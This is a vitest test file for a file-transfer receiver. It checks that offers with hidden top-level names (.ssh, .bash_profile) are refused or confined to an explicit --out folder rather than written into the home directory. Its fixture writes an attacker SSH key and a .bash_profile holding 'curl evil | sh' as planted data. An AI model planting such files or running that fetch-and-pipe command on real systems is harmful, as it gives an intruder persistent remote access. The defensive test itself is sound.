import { mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { EXIT } from '../src/main.ts';
import {
  jsonEvents,
  listTree,
  runCleanup,
  runReceive,
  startRealSender,
  tempDir,
} from './helpers.ts';

afterEach(runCleanup);

/** A source folder holding `.ssh/authorized_keys` and `.bash_profile`; returns the two paths to offer. */
async function dotfiles(): Promise<string[]> {
  const src = await tempDir();
  await mkdir(path.join(src, '.ssh'));
  await writeFile(path.join(src, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA attacker\n');
  await writeFile(path.join(src, '.bash_profile'), 'curl evil | sh\n');
  return [path.join(src, '.ssh'), path.join(src, '.bash_profile')];
}

describe('main (ferry-receive) default folder', () => {
  it('K2: --yes without --out refuses an offer with hidden top-level names: exit 2, a hint naming --out, nothing written', async () => {
    const { address, log } = await startRealSender(await dotfiles());
    const home = await tempDir();
    const run = await runReceive(['--yes', address], { home });
    expect(run.code).toBe(EXIT.usage);
    expect(run.stderr.text).toContain('--out');
    expect(run.stderr.text).toContain('.ssh/');
    expect(run.stderr.text).toContain('.bash_profile');
    expect((await log.waitFor('session-failed')).code).toBe('ERR_DECLINED');
    expect(log.all('request')).toEqual([]);
    expect(await readdir(home)).toEqual([]);
  });

  it('K2: with --json, the same refusal is an error event ERR_USAGE, and the offer lists the hidden names', async () => {
    const { address } = await startRealSender(await dotfiles());
    const home = await tempDir();
    const run = await runReceive(['--yes', '--json', address], { home });
    expect(run.code).toBe(EXIT.usage);
    const events = jsonEvents(run.stdout);
    expect(events.find((e) => e.event === 'offer')?.hidden).toEqual(['.ssh/', '.bash_profile']);
    expect(events.at(-1)).toMatchObject({ event: 'error', code: 'ERR_USAGE' });
    expect(await readdir(home)).toEqual([]);
  });

  it('K2: --yes with --out saves hidden names into the folder named', async () => {
    const { address } = await startRealSender(await dotfiles());
    const home = await tempDir();
    const out = await tempDir();
    const run = await runReceive(['--yes', '--out', out, address], { home });
    expect(run.code).toBe(EXIT.ok);
    expect(await listTree(out)).toEqual(['.bash_profile', '.ssh/', '.ssh/authorized_keys']);
    expect(run.stdout.text).toContain('Hidden names at the top level: .ssh/, .bash_profile');
    expect(await readdir(home)).toEqual([]);
  });

  it('K2: without ~/Downloads, the default folder is a new Downloads in the home folder, never the home folder itself', async () => {
    const src = await tempDir();
    await writeFile(path.join(src, 'a.txt'), 'alpha');
    const { address } = await startRealSender([path.join(src, 'a.txt')]);
    const home = await tempDir();
    const run = await runReceive(['--yes', address], { home });
    expect(run.code).toBe(EXIT.ok);
    expect(await listTree(home)).toEqual(['Downloads/', 'Downloads/a.txt']);
  });

  it('K2: a Downloads that is a symlink to the home folder is not used', async () => {
    const src = await tempDir();
    await writeFile(path.join(src, 'a.txt'), 'alpha');
    const { address } = await startRealSender([path.join(src, 'a.txt')]);
    const home = await tempDir();
    await symlink(home, path.join(home, 'Downloads'));
    const run = await runReceive(['--yes', address], { home });
    expect(run.code).not.toBe(EXIT.ok);
    expect(run.stderr.text).toContain('--out');
    expect(await readdir(home)).toEqual(['Downloads']);
  });
});
